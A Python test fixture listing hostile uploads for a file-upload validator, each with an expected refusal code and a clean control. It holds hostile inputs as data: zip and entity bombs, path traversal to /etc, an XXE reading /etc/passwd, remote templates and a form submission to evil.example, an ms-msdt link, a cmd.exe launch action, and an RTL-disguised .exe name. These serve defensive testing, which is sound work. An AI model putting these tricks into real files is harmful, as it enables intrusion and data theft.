"""Hostile files, each with its name, the code of its refusal, and the same file without the fault as the control."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from tests.foundation.storage import files

Build = Callable[[], bytes]


@dataclass(frozen=True)
class Hostile:
    what: str
    filename: str
    build: Build
    code: str
    control: Build
    control_name: str = ""


def _docx(what: str, code: str, build: Build, filename: str = "van-ban.docx") -> Hostile:
    return Hostile(f"docx {what}", filename, build, code, files.docx, "van-ban.docx")


def _rels(what: str, kind: str, target: str, code: str = "external_link", *, outside: bool = True) -> Hostile:
    return _docx(what, code, lambda: files.docx(rels=files.relations((kind, target, outside))))


def _xlsx(what: str, code: str, build: Build, filename: str = "bang.xlsx") -> Hostile:
    return Hostile(f"xlsx {what}", filename, build, code, files.xlsx, "bang.xlsx")


def _pdf(what: str, code: str, build: Build, filename: str = "ban-scan.pdf") -> Hostile:
    return Hostile(f"pdf {what}", filename, build, code, files.pdf, "ban-scan.pdf")


def _object(what: str, code: str, text: str) -> Hostile:
    return _pdf(what, code, lambda: files.pdf(f"4 0 obj << {text} >> endobj"))


def _png(what: str, code: str, build: Build, filename: str = "anh.png") -> Hostile:
    return Hostile(f"png {what}", filename, build, code, files.png, "anh.png")


def _jpeg(what: str, code: str, build: Build, filename: str = "anh.jpg") -> Hostile:
    return Hostile(f"jpeg {what}", filename, build, code, files.jpeg, "anh.jpg")


def _text(what: str, code: str, content: bytes, filename: str = "ke-hoach.txt") -> Hostile:
    return Hostile(f"text {what}", filename, lambda: content, code, "Kế hoạch năm 2026".encode, "ke-hoach.txt")


def _name(what: str, filename: str, code: str, control_name: str) -> Hostile:
    return Hostile(f"name {what}", filename, files.pdf, code, files.pdf, control_name)


HOSTILE = [
    _docx("bomb of ratio 1,000", "zip_bomb", lambda: files.docx(extra={"word/media.xml": files.bomb_part(60)})),
    _docx(
        "bomb with forged size",
        "broken_archive",
        lambda: files.with_forged_sizes(files.docx(extra={"word/b.xml": files.bomb_part(60)}), "word/b.xml"),
    ),
    _docx(
        "bomb in the picture folder",
        "zip_bomb",
        lambda: files.docx(extra={"word/media/image1.png": b"\0" * 50_000_000}),
    ),
    _docx(
        "2,001 entries", "too_many_entries", lambda: files.docx(extra={f"word/p{n}.xml": "<a/>" for n in range(2001)})
    ),
    _docx("encrypted entries", "encrypted", lambda: files.encrypted_flag(files.docx())),
    _docx("nested zip", "nested_archive", lambda: files.docx(extra={"word/a.zip": files.package({"a": "b"})})),
    _docx("nested workbook", "nested_archive", lambda: files.docx(extra={"word/embeddings/a.xlsx": files.xlsx()})),
    _docx("symlink", "symlink", lambda: files.docx(entries=[files.symlink("word/link")])),
    _docx("path upwards", "bad_name", lambda: files.docx(extra={"../../etc/cron.d/x": "x"})),
    _docx("absolute path", "bad_name", lambda: files.docx(extra={"/etc/passwd": "x"})),
    _docx("backslash path", "bad_name", lambda: files.docx(extra={"..\\..\\x.xml": "x"})),
    _docx("macro project", "macro", lambda: files.docx(extra={"word/vbaProject.bin": b"\0"})),
    _docx("macro project elsewhere", "macro", lambda: files.docx(extra={"custom/VBAPROJECT.BIN": b"\0"})),
    _docx("macro data", "macro", lambda: files.docx(extra={"word/vbaData.xml": "<a/>"})),
    _docx("ActiveX control", "macro", lambda: files.docx(extra={"word/activeX/activeX1.bin": b"\0"})),
    _docx("program inside", "macro", lambda: files.docx(extra={"word/media/run.exe": b"MZ"})),
    _docx(
        "content type with macros",
        "macro",
        lambda: files.docx(types=files.TYPES.replace("/>", ">application/vnd.ms-word.document.macroEnabled</Types>")),
    ),
    _docx("OLE object", "ole", lambda: files.docx(extra={"word/embeddings/oleObject1.bin": b"\0"})),
    _rels("remote template", "attachedTemplate", "http://evil.example/t.dotm"),
    _rels("template on a share", "attachedTemplate", "file://server/share/t.dotm"),
    _rels("remote picture", "image", "http://evil.example/pixel.png"),
    _rels("remote frame", "frame", "http://evil.example/"),
    _rels("remote sub-document", "subDocument", "http://evil.example/a.docx"),
    _rels("remote object", "oleObject", "http://evil.example/a"),
    _rels("inner object", "oleObject", "embeddings/a.bin", outside=False),
    _rels("script link", "hyperlink", "javascript:alert(1)", "dangerous_link"),
    _rels("link running a tool", "hyperlink", "ms-msdt:/id PCWDiagnostic", "dangerous_link"),
    _rels("link to a share", "hyperlink", "file://server/share/x.exe", "dangerous_link"),
    _docx(
        "external entity",
        "xml_entity",
        lambda: files.docx(prologue='<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    ),
    _docx(
        "entity bomb",
        "xml_entity",
        lambda: files.docx(prologue='<!DOCTYPE a [<!ENTITY l "lol"><!ENTITY m "&l;&l;&l;">]>'),
    ),
    _docx(
        "entity in UTF-16",
        "xml_entity",
        lambda: files.docx(extra={"word/styles.xml": '<?xml version="1.0"?><!DOCTYPE a []><a/>'.encode("utf-16")}),
    ),
    _docx("broken relations", "broken_xml", lambda: files.docx(rels="<Relationships")),
    _docx("without its document", "wrong_content", lambda: files.docx(without=["word/document.xml"])),
    _docx("cut at 99 %", "broken_archive", lambda: files.docx()[:-20]),
    _docx("stamp MẬT in the body", "secret", lambda: files.docx(files.paragraph("MẬT"))),
    _docx(
        "stamp in the head part", "secret", lambda: files.docx(extra={"word/header1.xml": files.paragraph("TỐI MẬT")})
    ),
    _docx(
        "stamp split over runs",
        "secret",
        lambda: files.docx("<w:p><w:r><w:t>TUYỆT </w:t></w:r><w:r><w:t>MẬT</w:t></w:r></w:p>"),
    ),
    _docx("old Word in new clothes", "wrong_content", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    _docx("macro document renamed", "unknown_type", files.docx, "van-ban.docm"),
    _docx("PDF under its name", "wrong_content", files.pdf),
    _docx("workbook under its name", "wrong_content", files.xlsx),
    _xlsx(
        "external workbook", "external_link", lambda: files.xlsx(rels=files.relations(("externalLink", "x.xml", False)))
    ),
    _xlsx(
        "link to another file",
        "external_link",
        lambda: files.xlsx(
            extra={
                "xl/externalLinks/_rels/e1.xml.rels": files.relations(("externalLinkPath", "file:///c:/a.xlsx", True))
            }
        ),
    ),
    _xlsx("macro project", "macro", lambda: files.xlsx(extra={"xl/vbaProject.bin": b"\0"})),
    _xlsx(
        "bomb of empty rows", "zip_bomb", lambda: files.xlsx(extra={"xl/worksheets/sheet2.xml": b"<row/>" * 9_000_000})
    ),
    _xlsx("stamp in a cell", "secret", lambda: files.xlsx(shared="MẬT")),
    _xlsx("macro workbook renamed", "unknown_type", files.xlsx, "bang.xlsm"),
    _object("JavaScript", "javascript", "/S /JavaScript /JS (app.alert(1))"),
    _object("JavaScript with escaped name", "javascript", "/S /J#61vaScript /JS (app.alert(1))"),
    _object("launch action", "launch", "/S /Launch /F (cmd.exe)"),
    _object("attached file", "embedded", "/Type /Filespec /EF << /F 5 0 R >> /EmbeddedFiles 6 0 R"),
    _object("submitting form", "action", "/S /SubmitForm /F (http://evil.example)"),
    _object("opening another file", "action", "/S /GoToR /F (other.pdf)"),
    _object("film", "media", "/Subtype /RichMedia"),
    _object("dynamic form", "xfa", "/XFA 7 0 R"),
    _pdf("encrypted", "encrypted", lambda: files.pdf(trailer="/Encrypt 5 0 R")),
    _pdf("JavaScript in an object stream", "javascript", lambda: files.pdf_with_object_stream(b"<< /S /JavaScript >>")),
    _pdf(
        "JavaScript at the end of a long object stream",
        "javascript",
        lambda: files.pdf_with_object_stream(b" " * 3_000_000 + b"<< /S /JavaScript >>"),
    ),
    _pdf(
        "object stream packed unusually",
        "unreadable",
        lambda: files.pdf_with_object_stream(b"<< >>", filtered="/LZWDecode"),
    ),
    _pdf("object stream bomb", "bomb", lambda: files.pdf_with_object_stream(b"\0" * (201 * 1024 * 1024))),
    _pdf(
        "10,000 pages",
        "too_many_pages",
        lambda: files.pdf(*(f"{n} 0 obj << /Type /Page >> endobj" for n in range(10, 10_010))),
    ),
    _pdf("ZIP glued on", "polyglot", lambda: files.pdf(tail=files.package({"a.txt": "x"}))),
    _pdf("HTML at its head", "polyglot", lambda: files.pdf(head=b"%PDF-1.7\n<html><script>alert(1)</script>\n")),
    _pdf("cut at 99 %", "broken", lambda: files.pdf()[:-30]),
    _pdf("HTML under its name", "wrong_content", lambda: b"<html><script>alert(1)</script></html>"),
    _png("50,000 x 50,000", "too_many_pixels", lambda: files.png(50_000, 50_000)),
    _png("without size", "broken_image", lambda: files.png(0, 10)),
    _png("cut", "broken_image", lambda: files.png()[:-10]),
    _png("chunk longer than the file", "broken_image", lambda: files.png()[:33] + b"\x7f\xff\xff\xffIDATx"),
    _png("program under its name", "wrong_content", lambda: b"MZ" + b"\0" * 100),
    _jpeg("65,000 x 65,000", "too_many_pixels", lambda: files.jpeg(65_000, 65_000)),
    _jpeg("cut", "broken_image", lambda: files.jpeg()[:-4]),
    _jpeg("without a frame", "broken_image", lambda: files.jpeg(frame=False)),
    _jpeg("endless segment", "broken_image", lambda: files.jpeg()[:20] + b"\xff\xe0\xff\xff"),
    _jpeg("HTML under its name", "wrong_content", lambda: b"<html>"),
    _text("HTML", "no_text", b"<!DOCTYPE html><html><script>alert(1)</script></html>"),
    _text("SVG with script", "no_text", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    _text("script further down", "no_text", b"K\xe1\xba\xbf ho\xe1\xba\xa1ch\n<script src=x></script>"),
    _text("RTF", "no_text", b"{\\rtf1\\ansi x}"),
    _text("program", "no_text", b"MZ\x90\x00" + b"\0" * 50),
    _text("PDF", "no_text", files.pdf()),
    _text("binary", "no_text", b"abc\x00\x01\x02def" * 100),
    _text("stamp alone on a line", "secret", "Số: 12/KH-UBND\n  TỐI MẬT  \nKẾ HOẠCH".encode()),
    _text("stamp with spaced letters", "secret", "KẾ HOẠCH\nM Ậ T\n".encode()),
    _text("nothing at all", "empty", b""),
    _name("with a stamp", "MẬT - Báo cáo.pdf", "secret", "Báo cáo bảo mật thông tin.pdf"),
    _name("with a stamp in brackets", "[TUYỆT MẬT] Báo cáo.pdf", "secret", "Mật độ dân số.pdf"),
    _name("with an unmarked stamp", "Tuyet mat - bao cao.pdf", "secret", "MẬT ONG Hoa Lư.pdf"),
    _name("page", "trang.html", "unknown_type", "trang.pdf"),
    _name("drawing", "hinh.svg", "unknown_type", "hinh.pdf"),
    _name("program", "bao-cao.pdf.exe", "unknown_type", "bao-cao.exe.pdf"),
    _name("turned round", "bao-cao\u202efdp.exe", "unknown_type", "bao-cao\u202e.pdf"),
    _name("archive", "ho-so.zip", "unknown_type", "ho-so.pdf"),
    _name("phone picture", "IMG_1.heic", "unknown_type", "IMG_1.pdf"),
    _name("without extension", "bao-cao", "unknown_type", "bao-cao.pdf"),
]
